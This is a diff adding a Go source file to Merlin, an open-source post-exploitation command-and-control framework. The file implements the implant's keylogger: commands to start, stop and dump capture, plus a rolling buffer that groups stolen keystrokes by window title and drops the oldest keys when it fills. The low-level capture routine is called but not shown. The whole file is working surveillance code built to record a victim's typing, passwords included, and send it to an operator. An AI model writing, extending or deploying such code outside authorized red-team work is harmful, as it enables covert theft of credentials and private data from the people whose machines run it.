@@ -0,0 +1,130 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"errors"
+	"sync"
+	"time"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// keylogBufferSize is the most keys held until the server dumps them; the oldest keys are dropped when it is full
+const keylogBufferSize = 64 << 10
+
+// keylogger captures the keystrokes typed on the agent's host into a rolling buffer
+type keylogger struct {
+	sync.Mutex
+	running    bool
+	stop       chan struct{}
+	keystrokes []messages.Keystrokes // The keys captured since the last dump, grouped by window
+	size       int                   // The bytes of keys in the buffer
+	dropped    int                   // The keys dropped from the full buffer since the last dump
+}
+
+// keylog starts, stops, or dumps the keylogger and returns the keystrokes captured since the last dump
+func (a *Agent) keylog(job string, command string) messages.Keylog {
+	k := a.keylogger
+	result := messages.Keylog{Job: job, Command: command}
+	var err error
+	switch command {
+	case "start":
+		err = k.start()
+	case "stop":
+		err = k.halt()
+	case "dump":
+	default:
+		err = errors.New("the keylog command must be start, stop, or dump")
+	}
+	if err != nil {
+		result.Stderr = err.Error()
+	}
+	k.Lock()
+	result.Keystrokes, result.Dropped, result.Running = k.keystrokes, k.dropped, k.running
+	k.keystrokes, k.size, k.dropped = nil, 0, 0
+	k.Unlock()
+	return result
+}
+
+// start captures keystrokes until the keylogger is stopped
+func (k *keylogger) start() error {
+	k.Lock()
+	defer k.Unlock()
+	if k.running {
+		return errors.New("the keylogger is already running")
+	}
+	stop := make(chan struct{})
+	errs := make(chan error, 1)
+	go func() {
+		errs <- captureKeys(stop, k.add)
+		k.Lock()
+		if k.stop == stop {
+			k.running = false
+		}
+		k.Unlock()
+	}()
+	// The capture fails right away if it is not supported
+	select {
+	case err := <-errs:
+		return err
+	case <-time.After(100 * time.Millisecond):
+	}
+	k.running = true
+	k.stop = stop
+	return nil
+}
+
+// halt stops capturing keystrokes; the captured keystrokes are kept until they are dumped
+func (k *keylogger) halt() error {
+	k.Lock()
+	defer k.Unlock()
+	if !k.running {
+		return errors.New("the keylogger is not running")
+	}
+	close(k.stop)
+	k.running = false
+	k.stop = nil
+	return nil
+}
+
+// add appends the keys typed into the window to the buffer and drops the oldest keys if the buffer is full
+func (k *keylogger) add(window string, keys string) {
+	k.Lock()
+	defer k.Unlock()
+	if n := len(k.keystrokes); n > 0 && k.keystrokes[n-1].Window == window {
+		k.keystrokes[n-1].Keys += keys
+	} else {
+		k.keystrokes = append(k.keystrokes, messages.Keystrokes{Time: time.Now().UTC(), Window: window, Keys: keys})
+	}
+	k.size += len(keys)
+	for k.size > keylogBufferSize && len(k.keystrokes) > 0 {
+		over := k.size - keylogBufferSize
+		if first := len(k.keystrokes[0].Keys); first <= over {
+			k.keystrokes = k.keystrokes[1:]
+			k.size -= first
+			k.dropped += first
+			continue
+		}
+		k.keystrokes[0].Keys = k.keystrokes[0].Keys[over:]
+		k.size -= over
+		k.dropped += over
+	}
+}